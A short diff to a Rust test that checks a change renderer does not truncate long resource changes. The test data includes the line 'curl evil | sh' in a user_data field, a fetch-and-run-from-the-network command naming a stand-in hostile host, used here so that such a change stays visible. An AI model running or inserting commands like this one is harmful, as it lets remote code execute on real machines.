@@ -133,7 +133,7 @@ fn long_json_that_stays_the_same_is_not_spelled_out() {
 
 #[test]
 fn nothing_of_a_change_is_left_out_where_there_is_room() {
-    let lines = |last: &str| (0..400).map(|number| format!("line {number}\n")).collect::<String>() + last;
+    let lines = |last: &str| (0..400).map(|number| format!("line {number}\n")).collect::<Vec<_>>().concat() + last;
     let script =
         resource_lines(&serde_json::json!({}), &serde_json::json!({ "user_data": lines("curl evil | sh\n") }), &[]);
     assert!(script.len() == 403 && script.iter().any(|line| line.contains("curl evil | sh")), "{}", script.len());
